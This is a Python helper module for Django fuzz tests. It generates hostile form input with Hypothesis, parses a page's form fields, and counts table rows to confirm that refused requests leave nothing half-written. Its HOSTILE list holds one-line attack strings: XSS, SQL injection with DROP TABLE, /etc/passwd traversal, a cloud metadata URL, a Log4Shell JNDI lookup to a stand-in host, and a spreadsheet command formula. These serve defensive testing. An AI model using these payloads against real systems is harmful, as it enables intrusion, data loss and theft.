"""Bad-input strategies and the "nothing half-written" check shared by the fuzz tests."""

from __future__ import annotations

from html.parser import HTMLParser

from django.apps import apps
from django.db import connection
from hypothesis import strategies as st

# Text the client can send (lone surrogates cannot be encoded as UTF-8 by any browser either).
_TEXT = st.characters(exclude_categories=("Cs",))

HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "A" * 100_000,
    "9" * 400,
    "-1",
    "0",
    "1e309",
    "NaN",
    "１２３",  # full-width digits: int() accepts them, the database may not
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "'; DROP TABLE cases_case; --",
    "{{ 7*7 }}{% debug %}",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\u202egnp.exe",
    "😀" * 60,
    "2026-02-30",
    "0000-00-00T25:61",
    "31/12/99999",
    "\t\n\r\x0b\x0c",
    "%00%0d%0a",
    "${jndi:ldap://x.example/a}",
    "=cmd|' /C calc'!A0",
    "Zephyrine Quillfeather",
    "é" * 20_000,
]
# Big values are fixed strings: generating 100 kB of random text per example would make the run slow.
hostile_text = st.one_of(st.sampled_from(HOSTILE), st.text(_TEXT, max_size=200))


class FormFields(HTMLParser):
    """The names of a page's form fields and the values its radios, checkboxes and options offer."""

    def __init__(self):
        super().__init__()
        self.fields: dict[str, list[str]] = {}
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag in ("input", "textarea", "select") and a.get("name") and a["name"] != "csrfmiddlewaretoken":
            values = self.fields.setdefault(a["name"], [])
            if tag == "input" and a.get("value") is not None:
                values.append(a["value"])
            self._select = a["name"] if tag == "select" else None
        elif tag == "option" and self._select and a.get("value") is not None:
            self.fields[self._select].append(a["value"])

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None


def form_fields(html: str) -> dict[str, list[str]]:
    parser = FormFields()
    parser.feed(html)
    return parser.fields


def field_value(offered: list[str]):
    """A value for one field: hostile text, a list of them, or one the form itself offers."""
    options = [hostile_text, st.lists(hostile_text, min_size=2, max_size=3)]
    if offered:
        options.append(st.sampled_from(offered))
    return st.one_of(*options)


@st.composite
def form_data(draw, fields: dict[str, list[str]]):
    data = {}
    for name, offered in fields.items():
        if draw(st.booleans()) or not data:
            data[name] = draw(field_value(offered))
    if draw(st.integers(0, 9)) == 0:
        data[draw(st.text(_TEXT, min_size=1, max_size=40))] = draw(hostile_text)
    return data


# ---- nothing half-written ---------------------------------------------------------------------------
# Writes a refused request may legitimately make: the access log (the attempt), sign-in failure counters.
_ALLOWED_TO_GROW = {"ppda.accesslog", "ppda.signinlockout", "ppda.usersession"}


def _domain_tables() -> list[str]:
    tables = []
    for label in ("ppda", "cases", "oversight", "panels"):
        for model in apps.get_app_config(label).get_models():
            if model._meta.label_lower not in _ALLOWED_TO_GROW and not model._meta.proxy:
                tables.append(model._meta.db_table)
    return sorted(set(tables))


def row_counts() -> dict[str, int]:
    """Every domain table's row count, in one query."""
    tables = _domain_tables()
    # Table names come from the models, quoted by the backend: no outside input reaches this SQL.
    quote = connection.ops.quote_name
    sql = "SELECT " + ", ".join(f"(SELECT count(*) FROM {quote(t)})" for t in tables)  # noqa: S608
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return dict(zip(tables, cursor.fetchone(), strict=True))


def changed(before: dict[str, int], after: dict[str, int]) -> dict[str, tuple[int, int]]:
    return {t: (before[t], after[t]) for t in before if before[t] != after[t]}
